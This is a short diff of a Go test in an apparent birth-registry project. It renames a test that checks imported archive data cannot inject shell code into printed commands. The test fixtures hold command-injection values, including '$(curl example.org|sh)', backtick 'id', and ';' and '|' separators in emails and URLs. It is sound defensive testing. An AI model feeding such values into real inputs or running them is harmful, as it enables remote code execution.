@@ -9,7 +9,7 @@ import (
 	"birthregistry/app/archive"
 )
 
-func TestWhatAnImportPrintsToBeRunHoldsNoShellCodeOfTheArchive(t *testing.T) {
+func TestCommandsThatAnImportPrintsHoldNoShellCodeOfTheArchive(t *testing.T) {
 	b := archive.Brought{Admins: []string{"a;b@example.org"}, Known: []string{"c|d@example.org"}}
 	b.Manifest.MadeAgain.Keys = []archive.Key{{Label: "$(curl example.org|sh)", Scopes: []string{"`id`"}}}
 	b.Manifest.MadeAgain.EHRs = []archive.EHR{{Issuer: "https://ehr.example.org/;id"}}
